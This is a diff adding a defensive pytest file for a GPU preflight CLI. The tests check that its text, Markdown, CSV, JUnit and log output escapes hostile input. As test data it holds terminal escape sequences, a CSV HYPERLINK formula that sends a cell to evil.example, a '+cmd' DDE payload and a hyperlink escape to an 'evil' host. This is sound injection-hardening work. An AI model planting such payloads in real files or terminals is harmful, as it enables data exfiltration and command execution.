@@ -1,0 +1,87 @@
+"""Output that cannot be abused: text from nodes, files and logs never reaches a terminal, a Markdown viewer, a
+spreadsheet or an XML parser as something it would act on (the red team's payloads, through the real CLI)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from xml.etree import ElementTree
+
+from conftest import FIXTURES, nvml_fixture, run_cli
+
+H200 = nvml_fixture("h200-driver580.json")
+ESCAPES = "\x1b]0;owned\x07\x1b[2J"  # retitle the terminal, clear the screen
+HOST = "gpu-01" + ESCAPES + "\n# Injected heading\u202e"
+
+
+def _report(tmp_path, name: str, host: str, message: str, command: str = "nvidia-smi") -> None:
+    (tmp_path / name).write_text(json.dumps({
+        "schema": "preflight.report/1", "ok": False, "host": host, "inventory": {},
+        "results": [{"id": "gpu.health", "title": "GPU is healthy", "status": "fail", "severity": "error",
+                     "subject": "gpu0", "message": message, "observed": None, "expected": "healthy",
+                     "fix": {"title": "Drain " + ESCAPES, "steps": ["step\x1b[8m hidden"], "commands": [command]}}]}))
+
+
+def _no_raw_controls(text: str) -> None:
+    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, repr(text[:500])
+
+
+def test_fleet_text_and_markdown_show_escapes_instead_of_acting_on_them(tmp_path):
+    _report(tmp_path, "a.json", HOST, "ECC " + ESCAPES, "nvidia-smi -r \x1b[2J")
+    for output_format in ("text", "markdown"):
+        completed = run_cli("fleet", str(tmp_path), "--format", output_format)
+        assert completed.returncode == 1, completed.stderr
+        _no_raw_controls(completed.stdout)
+        shown = completed.stdout.replace("\\\\", "\\").replace("\\]", "]")  # Markdown's own escapes undone
+        assert "\\x1b]0;owned\\x07" in shown
+        assert not any(line.startswith("# Injected") or line.startswith("## Injected")
+                       for line in completed.stdout.splitlines())
+    markdown = run_cli("fleet", str(tmp_path), "--format", "markdown").stdout
+    assert "\\#" in markdown or "\\x0a\\# Injected" in markdown
+
+
+def test_fleet_csv_neutralises_formulas(tmp_path):
+    _report(tmp_path, "a.json", '=HYPERLINK("http://evil.example/?"&A1,"click")', "x")
+    _report(tmp_path, "b.json", "+cmd|' /C calc'!A0", "y")
+    completed = run_cli("fleet", str(tmp_path), "--format", "csv")
+    rows = list(csv.reader(io.StringIO(completed.stdout)))
+    nodes = [row[0] for row in rows[1:]]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in nodes and "'+cmd|' /C calc'!A0" in nodes
+
+
+def test_check_text_and_junit_show_a_hostile_gpu_name_as_text(tmp_path):
+    facts = json.loads((FIXTURES / "reference-facts.json").read_text())
+    facts["hostname"] = "node" + ESCAPES
+    facts["nvml"]["gpus"][0]["name"] = "NVIDIA H200" + ESCAPES
+    path = tmp_path / "facts.json"
+    path.write_text(json.dumps(facts))
+    text = run_cli("check", "--facts", str(path), "--profile", "node", "--set", "gpu.memory.min=1TB")
+    assert text.returncode == 1
+    _no_raw_controls(text.stdout)
+    assert "\\x1b]0;owned\\x07" in text.stdout
+    junit = run_cli("check", "--facts", str(path), "--profile", "node", "--set", "gpu.memory.min=1TB", "--format",
+                    "junit")
+    ElementTree.fromstring(junit.stdout.split("\n", 1)[1])  # well-formed XML
+    _no_raw_controls(junit.stdout)
+    facts_text = run_cli("facts", "--format", "text", "--nvml-fixture", H200)
+    assert facts_text.returncode == 0
+
+
+def test_config_show_echoes_no_raw_escapes(tmp_path):
+    config = tmp_path / "config.toml"
+    config.write_text('[[match]]\nhosts = "gpu-*"\nprofile = "node"\n')
+    completed = run_cli("config", "show", "--config", str(config), "--host", "evil" + ESCAPES, "--gpu",
+                        "GPU" + ESCAPES)
+    assert completed.returncode == 0, completed.stderr
+    _no_raw_controls(completed.stdout)
+    assert "evil\\x1b]0;owned\\x07" in completed.stdout
+
+
+def test_diagnose_shows_a_log_line_with_escape_sequences_as_text(tmp_path):
+    log = tmp_path / "train.log"
+    log.write_text("\x1b]0;owned\x07RuntimeError: CUDA error: out of memory \x1b[2J\x1b]8;;http://evil/\x07link\n")
+    completed = run_cli("diagnose", str(log), "--no-facts")
+    assert completed.returncode == 1, completed.stdout
+    _no_raw_controls(completed.stdout)
